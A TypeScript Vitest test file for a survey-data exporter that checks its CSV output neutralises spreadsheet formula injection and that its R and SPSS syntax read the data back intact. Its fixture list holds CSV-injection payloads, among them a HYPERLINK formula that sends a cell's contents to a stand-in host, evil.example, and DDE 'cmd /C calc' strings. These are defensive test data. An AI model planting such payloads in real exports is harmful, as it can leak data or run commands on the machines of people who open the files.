import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { MissingCodes } from '../../shared/entry/rules';
import { syntaxFile } from './syntax';
import { csvChunks, type ExportTable, type TableColumn } from './tables';

/**
 * CSV injection (OWASP): free-text answers and labels can hold text a spreadsheet runs as a formula.
 * The CSV must carry such text neutralised (a leading single quote), leave numbers alone, and the
 * R and SPSS syntax files must still read back exactly what was entered.
 */

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?q="&A1,"click")',
  '+1',
  "-cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\tindented =1+1',
  '\rcarriage =1+1',
  "'already quoted",
  'plain words, with a comma',
  '12345',
];
// Negative missing codes, as some studies use: they are numbers and must stay numbers.
const CODES: MissingCodes = { skipped: -97, refused: -98, dont_know: -99 };
const SCORES = [-99, -3.5, 4, 0, -97, 2, 5, -1, 3];

const column = (name: string, numeric: boolean, label: string): TableColumn => ({
  name,
  role: name === 'id' ? 'id' : 'item',
  label,
  wave: null,
  waveLabel: null,
  item: name,
  concept: null,
  conceptName: null,
  kind: numeric ? 'likert' : 'text',
  valueLabels: [],
  reverseKeyed: false,
  hasMissingCodes: numeric,
  generalised: null,
  numeric,
});

const table: ExportTable = {
  columns: [column('id', false, 'Study ID'), column('note', false, 'Anything else?'), column('score', true, 'A score')],
  rows: HOSTILE.map((text, index) => [String(10_000_001 + index), text, SCORES[index]!]),
};

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'mixwise-csv-'));
  writeFileSync(join(folder, 'data.csv'), [...csvChunks(table)].join(''));
  for (const kind of ['r', 'spss'] as const)
    writeFileSync(join(folder, `data.${kind === 'r' ? 'R' : 'sps'}`), syntaxFile(kind, table, 'data.csv', CODES));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

/** Cells as a CSV reader sees them (Python's csv module, not our own parser). */
function readCsv(path: string): string[][] {
  const script = 'import csv, json, sys\nprint(json.dumps(list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))))';
  const result = spawnSync('/usr/bin/python3', ['-c', script, path], { encoding: 'utf8' });
  expect(result.status, result.stderr).toBe(0);
  return JSON.parse(result.stdout) as string[][];
}

/** Where the program is missing: CI has it (fail), elsewhere the check is left out, loudly. */
function available(command: string, install: string): boolean {
  if (!spawnSync(command, ['--version']).error) return true;
  if (process.env.CI) throw new Error(`${command} is not installed (apt-get install ${install}).`);
  console.warn(`${command} is not installed: the syntax was not run (apt-get install ${install}).`);
  return false;
}

describe('CSV export against formula injection', () => {
  it('puts a single quote before text a spreadsheet would run, and leaves numbers and plain text alone', () => {
    const [header, ...rows] = readCsv(join(folder, 'data.csv'));
    expect(header).toEqual(['id', 'note', 'score']);
    expect(rows.map((row) => row[1])).toEqual([
      '\'=HYPERLINK("http://evil.example/?q="&A1,"click")',
      "'+1",
      "'-cmd|' /C calc'!A0",
      "'@SUM(1+1)*cmd|' /C calc'!A0",
      "'\tindented =1+1",
      "'\rcarriage =1+1",
      "''already quoted",
      'plain words, with a comma',
      '12345',
    ]);
    for (const row of rows) expect(row[1]).not.toMatch(/^[=+\-@\t\r]/);
    // Negative numbers are numbers, written as such: no quote, so every reader sees -99, not text.
    expect(rows.map((row) => row[2])).toEqual(SCORES.map(String));
    expect(rows.map((row) => row[0])).toEqual(HOSTILE.map((_, index) => String(10_000_001 + index)));
  });

  it('the R syntax reads back exactly the text entered, and the scores as numbers with missing codes as NA', () => {
    if (!available('Rscript', 'r-base-core')) return;
    const probe = [
      'source("data.R", encoding = "UTF-8")',
      'cat(paste0("[", paste(sprintf("\\"%s\\"", sapply(data$note, function(x) paste(utf8ToInt(x), collapse = " "))), collapse = ","), "]"), "\\n")',
      'cat(class(data$score), paste(ifelse(is.na(data$score), "NA", format(data$score)), collapse = "|"), sep = "\\n")',
    ].join('\n');
    const result = spawnSync('Rscript', ['-e', probe], { cwd: folder, encoding: 'utf8' });
    expect(result.status, result.stderr).toBe(0);
    const [codePoints, scoreClass, scores] = result.stdout.trim().split('\n');
    const notes = (JSON.parse(codePoints!) as string[]).map((points) => String.fromCodePoint(...points.split(' ').map(Number)));
    // R's read.csv turns a lone carriage return inside a quoted field into a line feed, guard or not.
    expect(notes).toEqual(HOSTILE.map((text) => text.replace(/^\r/, '\n')));
    expect(scoreClass).toBe('numeric');
    expect(scores!.split('|').map((value) => value.trim())).toEqual(['NA', '-3.5', '4.0', '0.0', 'NA', '2.0', '5.0', '-1.0', '3.0']);
  });

  it('the SPSS syntax, run in PSPP, reads back exactly the text entered', () => {
    if (!available('pspp', 'pspp')) return;
    // Each note's characters as numbers, so tabs and carriage returns survive PSPP's output.
    const probe = [
      "INCLUDE FILE='data.sps'.",
      'STRING first (A1).',
      'COMPUTE first = SUBSTR(note, 1, 1).',
      'COMPUTE len = LENGTH(RTRIM(note)).',
      'LIST id first len score.',
    ].join('\n');
    writeFileSync(join(folder, 'probe.sps'), probe);
    const result = spawnSync('pspp', ['probe.sps', '-O', 'format=csv', '-o', 'probe.csv'], { cwd: folder, encoding: 'utf8' });
    expect(result.status, result.stdout + result.stderr).toBe(0);
    const output = readFileSync(join(folder, 'probe.csv'), 'utf8');
    expect(output).not.toMatch(/error|warning/i);
    const listed = readCsv(join(folder, 'probe.csv')).filter((row) => /^\d{8}$/.test(row[0]!.trim()));
    expect(listed.map((row) => row[1])).toEqual(HOSTILE.map((text) => text[0]));
    expect(listed.map((row) => Number(row[2]))).toEqual(HOSTILE.map((text) => text.length));
  });
});
